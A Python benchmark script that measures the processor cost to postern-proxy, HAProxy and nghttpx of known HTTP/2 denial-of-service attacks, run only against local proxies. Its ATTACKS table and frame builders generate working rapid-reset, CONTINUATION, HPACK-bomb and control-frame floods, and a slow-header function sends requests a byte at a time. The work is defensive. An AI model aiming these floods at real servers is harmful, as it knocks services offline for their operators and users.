#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""floods.py [ROUNDS]: what known attacks cost postern-proxy, HAProxy and nghttpx, in processor time. Needs no root.

Each proxy has one thread that serves, the same rule (nghttpx: none), and nghttpd behind it. Each attack is a connection
that sends its frames until the proxy ends it, or MOST of them, as fast as they are taken; the slow one sends a byte to each
of its connections every 10 ms. Beside them stand normal requests: many on one connection, and one on each. The proxies take
turns, in each of ROUNDS (default 3); medians. Time is that of all threads and processes of the proxy (schedstat), so what
else the machine does moves it little; it is of the proxy alone, not of client and server.
"""
import os
import select
import shutil
import signal
import socket
import statistics
import subprocess
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "e2e"))
from proxy import WORK, Proxy, free_port, wait  # noqa: E402

MOST = 20000        # frames of a flood that nobody ends
CONNECTIONS = 5     # of each attack, one after the other
SLOW = (20, 300)    # connections at once, bytes on each
QUIET = 0.3         # seconds after which nothing more comes

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# :method GET, :scheme http, :path /api/x, :authority b; none of them is to be remembered.
GET = bytes([0x82, 0x86, 0x04, 6]) + b"/api/x" + bytes([0x01, 1]) + b"b"
# A field of 4 KB that is remembered, and named again by each byte that follows.
BOMB = GET + b"\x40\x01x\x7f\x81\x1e" + b"v" * 3968
BOMB += bytes([0x80 | 62]) * (16384 - len(BOMB))


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def rapid_reset(i):
    return frame(HEADERS, 5, 2 * i + 1, GET) + frame(RST_STREAM, 0, 2 * i + 1, b"\0\0\0\x08")


# Name: what is sent first, the I-th of what is sent then, and how often at most.
ATTACKS = {
    "rapid reset": (b"", rapid_reset, MOST // 2),
    # The value of a field that does not end, a byte in each frame.
    "CONTINUATION": (frame(HEADERS, 1, 1, b"\x82\x86\x84\0\x01x\x7f\xff\xff\x01"), lambda i: frame(CONTINUATION, 0, 1, b"v"), MOST),
    "HPACK bomb": (b"", lambda i: frame(HEADERS, 5, 2 * i + 1, BOMB), 5),
    "PING": (b"", lambda i: frame(PING, 0, 0, b"12345678"), MOST),
    "SETTINGS": (b"", lambda i: frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff"), MOST),
    "WINDOW_UPDATE": (b"", lambda i: frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"), MOST),
    "empty DATA": (frame(HEADERS, 4, 1, b"\x83" + GET[1:]), lambda i: frame(DATA, 0, 1), MOST),
}


def processor_time(pid):
    """Microseconds of a process with its threads and children."""
    total = 0
    for task in os.listdir(f"/proc/{pid}/task"):
        with open(f"/proc/{pid}/task/{task}/schedstat", encoding="ascii") as stat:
            total += int(stat.read().split()[0]) / 1000
        with open(f"/proc/{pid}/task/{task}/children", encoding="ascii") as children:
            total += sum(processor_time(int(child)) for child in children.read().split())
    return total


def has_ended(sock):
    """Reads what is there."""
    try:
        while got := sock.recv(65536):
            pass
        return not got
    except BlockingIOError:
        return False
    except OSError:
        return True


def flood(port, name):
    """How many frames were taken, and whether the proxy ended it."""
    first, unit, most = ATTACKS[name]
    with socket.create_connection(("127.0.0.1", port)) as sock:
        sock.setblocking(False)
        data, sent = PREFACE + frame(SETTINGS, 0, 0) + first, 0
        while data or sent < most:
            if not data:
                n = min(10 if most > 10 else 1, most - sent)
                data, sent = b"".join(unit(sent + i) for i in range(n)), sent + n
            select.select([sock], [sock], [], 1)
            if has_ended(sock):
                return sent, True
            try:
                data = data[sock.send(data):]
            except BlockingIOError:
                pass
            except OSError:
                return sent, True
        while select.select([sock], [], [], QUIET)[0]:
            if has_ended(sock):
                return sent, True
    return sent, False


def slow(port):
    n, size = SLOW
    head = (b"GET /api/x HTTP/1.1\r\nHost: b\r\nX: " + b"x" * size)[:size]
    socks = [socket.create_connection(("127.0.0.1", port)) for _ in range(n)]
    for byte in head:
        for sock in socks:
            sock.send(bytes([byte]))
        time.sleep(0.01)
    for sock in socks:
        sock.close()


def h2load(port, n, connections, streams):
    out = subprocess.run(["h2load", "-n", str(n), "-c", str(connections), "-m", str(streams),
                          f"http://127.0.0.1:{port}/api/x"], stdout=subprocess.PIPE, check=True, text=True).stdout
    assert f"{n} 2xx, 0 3xx, 0 4xx, 0 5xx" in out, out


def background(*args):
    return subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def start(upstream):
    """Name to port and process."""
    proxies = {}
    own = Proxy(upstream, "--threads", "1", "--events", "none")
    proxies["postern-proxy"] = (own.port, own.process)
    port = free_port()
    conf = os.path.join(WORK, "haproxy.cfg")
    with open(conf, "w", encoding="ascii") as out:
        out.write("global\n nbthread 1\ndefaults\n mode http\n timeout connect 5s\n timeout client 60s\n"
                  " timeout server 60s\n timeout http-request 10s\n"
                  f"frontend f\n bind 127.0.0.1:{port}\n"
                  " http-request deny deny_status 403 unless { path_reg ^/api/.*$ } { method GET HEAD POST DELETE }\n"
                  f" default_backend b\nbackend b\n http-reuse always\n server s 127.0.0.1:{upstream} proto h2\n")
    proxies["HAProxy"] = (port, background("haproxy", "-f", conf))
    if shutil.which("nghttpx"):
        port = free_port()
        proxies["nghttpx"] = (port, background("nghttpx", f"-f127.0.0.1,{port};no-tls", "--workers=1",
                                               f"-b127.0.0.1,{upstream};;proto=h2", "--conf=/dev/null"))
    for port, _ in proxies.values():
        wait(lambda port=port: socket.create_connection(("127.0.0.1", port), timeout=1).close() is None, "a proxy")
    return proxies


def measure(name, port, pid):
    """Microseconds of each connection or request, how many frames were taken, and whether the proxy ended all."""
    frames, ended = [], True
    before = processor_time(pid)
    if name == "a request":
        n = 5000
        h2load(port, n, 1, 50)
    elif name == "a connection with one request":
        n = 300
        h2load(port, n, n, 1)
    elif name == "slow head, of a byte each":
        n, ended = SLOW[0], False
        slow(port)
    else:
        n = CONNECTIONS
        for _ in range(n):
            sent, closed = flood(port, name)
            frames.append(sent)
            ended &= closed
    time.sleep(0.1)
    return (processor_time(pid) - before) / n, statistics.median(frames) if frames else 0, ended


def main():
    os.environ["PATH"] += ":/usr/sbin"
    for tool in ("nghttpd", "h2load", "haproxy"):
        if not shutil.which(tool):
            print(f"needs {tool}")
            sys.exit(77)
    rounds = int(sys.argv[1]) if sys.argv[1:] else 3
    www = os.path.join(WORK, "www", "api")
    os.makedirs(www)
    with open(os.path.join(www, "x"), "w", encoding="ascii") as out:
        out.write("hello world\n")
    upstream = free_port()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))  # what was started ends, too
    server = background("nghttpd", "--no-tls", "-n1", "-d", os.path.dirname(www), "--address=127.0.0.1", str(upstream))
    wait(lambda: socket.create_connection(("127.0.0.1", upstream), timeout=1).close() is None, "nghttpd listens")
    proxies = start(upstream)
    names = ["a request", "a connection with one request", *ATTACKS, "slow head, of a byte each"]
    got = {}
    print("load before:", os.getloadavg()[0])
    try:
        for _ in range(rounds):
            for name in names:
                for proxy, (port, process) in proxies.items():
                    got.setdefault((name, proxy), []).append(measure(name, port, process.pid))
    finally:
        for _, process in proxies.values():
            process.kill()
        server.kill()
        shutil.rmtree(WORK, ignore_errors=True)
    print("load behind:", os.getloadavg()[0])
    print(f"{'each':30} {'':14} {'us':>9} {'requests':>9} {'frames':>7}")
    for name in names:
        for proxy in proxies:
            time_each = statistics.median(one[0] for one in got[name, proxy])
            request = statistics.median(one[0] for one in got["a request", proxy])
            frames = statistics.median(one[1] for one in got[name, proxy])
            open_still = name in ATTACKS and not all(one[2] for one in got[name, proxy])
            print(f"{name:30} {proxy:14} {time_each:9.0f} {time_each / request:9.1f} {frames or '':>7}"
                  f"{'  not ended' if open_still else ''}")


if __name__ == "__main__":
    main()
